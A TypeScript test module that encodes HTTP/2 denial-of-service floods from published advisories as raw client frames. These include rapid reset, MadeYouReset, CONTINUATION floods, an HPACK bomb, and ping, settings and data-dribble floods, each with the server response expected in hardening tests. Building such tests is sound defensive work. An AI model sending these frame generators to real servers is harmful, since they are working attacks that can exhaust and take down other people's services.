// HTTP/2 floods as their advisories describe them, as bytes of a client (spec hardening §3, rows 1 to 8). Pure: who sends them,
// and how fast, is up to the caller.
import { type Frame, FrameType, frame, PREFACE, requestBlock, u32 } from "../testing/frames.ts";

export type Attack = {
  /** Row of spec hardening §3. */
  readonly row: number;
  /** The advisory and what is done. */
  readonly name: string;
  /** Frames this attack would send if nobody stopped it. */
  readonly frames: number;
  /** The attack's bytes after preface and SETTINGS, in pieces. */
  pieces(): Iterable<Uint8Array>;
  /** SETTINGS of the attacker: identifier, value, … Default: none. */
  readonly settings?: readonly number[];
  /** The attacker reads what it is sent. Default true. */
  readonly reads?: boolean;
  /** How the connection has to end: `calm`: GOAWAY with ENHANCE_YOUR_CALM; `error`: GOAWAY with another error or a mere close;
   * `lives`: the frames do no harm, and a request on the same connection is served. */
  readonly ends: "calm" | "error" | "lives";
};

const CONTINUATION = 9;
const PRIORITY = 2;
const END_STREAM = 1;
const END_HEADERS = 4;
const CANCEL = 8;
/** Frames are put together to pieces of about this size, bytes. */
const PIECE_BYTES = 16_384;

export const settingsFrame = (...pairs: readonly number[]): Buffer => {
  const payload = Buffer.alloc(pairs.length * 3);
  for (let i = 0; i < pairs.length; i += 2) {
    payload.writeUInt16BE(pairs[i] as number, i * 3);
    payload.writeUInt32BE(pairs[i + 1] as number, i * 3 + 2);
  }
  return frame(FrameType.SETTINGS, 0, 0, payload);
};

/** What every attacker begins with. */
export function opening(settings: readonly number[] = []): Buffer {
  return Buffer.concat([Buffer.from(PREFACE, "latin1"), settingsFrame(...settings)]);
}

const GET = requestBlock("/flood", "flood.test");
const POST = Buffer.concat([Buffer.of(0x83), GET.subarray(1)]);
const headers = (id: number, block: Uint8Array, flags: number): Buffer => frame(FrameType.HEADERS, flags | END_HEADERS, id, block);
const get = (id: number): Buffer => headers(id, GET, END_STREAM);
const post = (id: number): Buffer => headers(id, POST, 0);
const rst = (id: number): Buffer => frame(FrameType.RST_STREAM, 0, id, u32(CANCEL));
const windowUpdate = (id: number, n: number): Buffer => frame(FrameType.WINDOW_UPDATE, 0, id, u32(n));
/** A field with a literal name and value, not indexed. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), integer(value.length), Buffer.from(value)]);
/** An integer with a seven-bit prefix, its first bit clear (RFC 7541 §5.1). */
function integer(n: number): Buffer {
  if (n < 127) return Buffer.of(n);
  const bytes = [127];
  for (n -= 127; n >= 128; n = Math.floor(n / 128)) bytes.push((n % 128) | 128);
  return Buffer.of(...bytes, n);
}

/** `n` times what `make` makes, put together to pieces. */
function* times(n: number, make: (i: number) => Buffer): Iterable<Uint8Array> {
  let parts: Buffer[] = [];
  let bytes = 0;
  for (let i = 0; i < n; i++) {
    const part = make(i);
    parts.push(part);
    bytes += part.length;
    if (bytes < PIECE_BYTES && i + 1 < n) continue;
    yield Buffer.concat(parts);
    parts = [];
    bytes = 0;
  }
}

function* first(piece: Buffer, rest: Iterable<Uint8Array>): Iterable<Uint8Array> {
  yield piece;
  yield* rest;
}

const id = (i: number): number => 1 + 2 * i;
const flood = (row: number, name: string, n: number, make: (i: number) => Buffer, more: Partial<Attack> = {}): Attack => ({
  row,
  name,
  frames: n,
  pieces: () => times(n, make),
  ends: "calm",
  ...more,
});

const HUNDRED_THOUSAND = 100_000;
const MILLION = 1_000_000;

export const ATTACKS: readonly Attack[] = [
  flood(1, "CVE-2023-44487 rapid reset: HEADERS and RST_STREAM", HUNDRED_THOUSAND, (i) => Buffer.concat([get(id(i)), rst(id(i))])),
  flood(
    1,
    "CVE-2023-26964 reset streams kept in a queue: no window, no reading, HEADERS and RST_STREAM",
    HUNDRED_THOUSAND,
    (i) => Buffer.concat([get(id(i)), rst(id(i))]),
    // SETTINGS_INITIAL_WINDOW_SIZE 0.
    { settings: [4, 0] },
  ),
  flood(2, "CVE-2025-8671 MadeYouReset: WINDOW_UPDATE of zero", HUNDRED_THOUSAND, (i) =>
    Buffer.concat([post(id(i)), windowUpdate(id(i), 0)]),
  ),
  flood(2, "CVE-2025-8671 MadeYouReset: window beyond its maximum", HUNDRED_THOUSAND, (i) =>
    Buffer.concat([post(id(i)), windowUpdate(id(i), 0x7fffffff)]),
  ),
  flood(2, "CVE-2025-8671 MadeYouReset: DATA on a half-closed stream", HUNDRED_THOUSAND, (i) =>
    Buffer.concat([get(id(i)), frame(FrameType.DATA, 0, id(i), Buffer.from("x"))]),
  ),
  flood(2, "CVE-2025-8671 MadeYouReset: PRIORITY of a wrong length", HUNDRED_THOUSAND, (i) =>
    Buffer.concat([post(id(i)), frame(PRIORITY, 0, id(i), Buffer.alloc(4))]),
  ),
  flood(
    2,
    "CVE-2025-8671 MadeYouReset: a stream that depends on itself",
    HUNDRED_THOUSAND,
    (i) => Buffer.concat([post(id(i)), frame(PRIORITY, 0, id(i), Buffer.concat([u32(id(i)), Buffer.of(16)]))]),
    { ends: "error" },
  ),
  flood(2, "RUSTSEC-2025-0070 (pingora) MadeYouReset: content beyond its length", HUNDRED_THOUSAND, (i) =>
    Buffer.concat([
      headers(id(i), Buffer.concat([POST, literal("content-length", "1")]), 0),
      frame(FrameType.DATA, 0, id(i), Buffer.from("xy")),
    ]),
  ),
  flood(3, "RUSTSEC-2024-0003 resets of the server that are not read", MILLION, (i) => headers(id(i), literal("te", "gzip"), END_STREAM), {
    reads: false,
  }),
  flood(3, "CVE-2019-9514 reset flood: malformed requests", HUNDRED_THOUSAND, (i) => headers(id(i), Buffer.of(0x82), END_STREAM)),
  {
    row: 4,
    name: "CVE-2024-27919 CONTINUATION flood without END_HEADERS",
    frames: MILLION,
    pieces: () =>
      first(
        frame(FrameType.HEADERS, END_STREAM, 1, GET),
        times(MILLION, () => frame(CONTINUATION, 0, 1, literal("x", "y"))),
      ),
    ends: "calm",
  },
  {
    row: 4,
    name: "CVE-2024-30255 CONTINUATION flood of empty frames",
    frames: MILLION,
    pieces: () =>
      first(
        frame(FrameType.HEADERS, END_STREAM, 1, GET),
        times(MILLION, () => frame(CONTINUATION, 0, 1)),
      ),
    ends: "calm",
  },
  {
    row: 4,
    name: "CVE-2024-28182 CONTINUATION flood of large frames",
    frames: 10_000,
    pieces: () =>
      first(
        frame(FrameType.HEADERS, END_STREAM, 1, GET),
        times(10_000, (i) => frame(CONTINUATION, 0, 1, literal(`x${i}`, "~".repeat(16_000)))),
      ),
    ends: "calm",
  },
  {
    row: 5,
    name: "CVE-2016-1544 HPACK bomb: a 4 KB entry referred to 16,000 times",
    frames: 2,
    pieces: () => [
      // Literal with incremental indexing (`x` with nearly 4 KB), then references to it by its index.
      headers(1, Buffer.concat([GET, Buffer.of(0x40, 1), Buffer.from("x"), integer(4000), Buffer.alloc(4000, "~")]), END_STREAM),
      headers(3, Buffer.concat([GET, Buffer.alloc(16_000, 0x80 | 62)]), END_STREAM),
    ],
    ends: "lives",
  },
  {
    row: 5,
    name: "CVE-2016-2525 HPACK: a table size beyond what was allowed",
    frames: 1,
    // A dynamic table size update to 2^31 (RFC 7541 §6.3).
    pieces: () => [headers(1, Buffer.concat([Buffer.of(0x3f, 0xe1, 0xff, 0xff, 0xff, 0x07), GET]), END_STREAM)],
    ends: "error",
  },
  {
    row: 6,
    name: "CVE-2019-9511 data dribble: everything asked for, windows opened byte by byte",
    frames: HUNDRED_THOUSAND,
    settings: [4, 0],
    pieces: () =>
      first(
        Buffer.concat(Array.from({ length: 100 }, (_, i) => get(id(i)))),
        times(HUNDRED_THOUSAND, (i) => windowUpdate(id(i % 100), 1)),
      ),
    ends: "calm",
  },
  flood(6, "CVE-2019-9512 ping flood", HUNDRED_THOUSAND, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8))),
  flood(6, "CVE-2019-9512 ping flood, answers not read", MILLION, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8)), { reads: false }),
  {
    row: 6,
    name: "CVE-2019-9513 resource loop: priorities shuffled",
    frames: HUNDRED_THOUSAND,
    pieces: () =>
      first(
        Buffer.concat(Array.from({ length: 100 }, (_, i) => post(id(i)))),
        times(HUNDRED_THOUSAND, (i) =>
          frame(
            PRIORITY,
            0,
            id(i % 100),
            Buffer.concat([u32(id((i * 7 + 1) % 99 === i % 100 ? 99 : (i * 7 + 1) % 99)), Buffer.of(i & 255)]),
          ),
        ),
      ),
    ends: "calm",
  },
  flood(6, "CVE-2019-9515 settings flood", HUNDRED_THOUSAND, () => settingsFrame()),
  flood(6, "CVE-2019-9516 0-length headers leak", HUNDRED_THOUSAND, (i) =>
    headers(id(i), Buffer.concat([GET, Buffer.of(0, 0, 0)]), END_STREAM),
  ),
  flood(
    6,
    "CVE-2019-9517 internal data buffering: windows wide open, nothing read",
    20_000,
    (i) => Buffer.concat([get(id(i)), windowUpdate(0, 1 << 16)]),
    // SETTINGS_INITIAL_WINDOW_SIZE at its maximum.
    { settings: [4, 0x7fffffff], reads: false },
  ),
  {
    row: 6,
    name: "CVE-2019-9518 empty frames flood",
    frames: HUNDRED_THOUSAND,
    pieces: () =>
      first(
        post(1),
        times(HUNDRED_THOUSAND, () => frame(FrameType.DATA, 0, 1)),
      ),
    ends: "calm",
  },
  flood(6, "CVE-2020-11080 large SETTINGS frames", 10_000, () =>
    settingsFrame(...Array.from({ length: 4000 }, (_, i) => (i % 2 ? 100 : 3))),
  ),
  {
    row: 7,
    name: "RUSTSEC-2026-0258 endless empty DATA on a stream that nobody drains",
    frames: MILLION,
    pieces: () =>
      first(
        Buffer.concat([post(1), frame(FrameType.DATA, 0, 1, Buffer.alloc(16_000))]),
        times(MILLION, () => frame(FrameType.DATA, 0, 1)),
      ),
    ends: "calm",
  },
  {
    row: 8,
    name: "CVE-2021-32778 a thousand open streams reset at once",
    frames: 2000,
    pieces: () => [
      Buffer.concat(Array.from({ length: 900 }, (_, i) => get(id(i)))),
      Buffer.concat(Array.from({ length: 900 }, (_, i) => rst(id(i)))),
    ],
    ends: "lives",
  },
];

const NAMES: Readonly<Record<number, string>> = {
  0: "NO_ERROR",
  1: "PROTOCOL_ERROR",
  3: "FLOW_CONTROL_ERROR",
  6: "FRAME_SIZE_ERROR",
  9: "COMPRESSION_ERROR",
  11: "ENHANCE_YOUR_CALM",
};

/** The error code of a GOAWAY frame, by its name. */
export function goawayCode(goaway: Frame): string {
  const code = goaway.payload.readUInt32BE(4);
  return NAMES[code] ?? String(code);
}

/** Reads frames out of a stream of bytes; keeps only a count of each type, resets by code, and the last GOAWAY. */
export class FrameCounter {
  readonly counts = new Map<number, number>();
  goaway: string | null = null;
  /** Streams that have got a response head. */
  readonly answered = new Set<number>();
  #rest: Buffer = Buffer.alloc(0);

  receive(chunk: Uint8Array): void {
    let bytes = this.#rest.length === 0 ? Buffer.from(chunk) : Buffer.concat([this.#rest, chunk]);
    while (bytes.length >= 9) {
      const length = bytes.readUIntBE(0, 3);
      if (bytes.length < 9 + length) break;
      const type = bytes[3] as number;
      const stream = bytes.readUInt32BE(5);
      this.counts.set(type, (this.counts.get(type) ?? 0) + 1);
      if (type === FrameType.GOAWAY) this.goaway = goawayCode({ type, flags: 0, stream, payload: bytes.subarray(9, 9 + length) });
      if (type === FrameType.HEADERS) this.answered.add(stream);
      bytes = bytes.subarray(9 + length);
    }
    this.#rest = Buffer.from(bytes);
  }
}
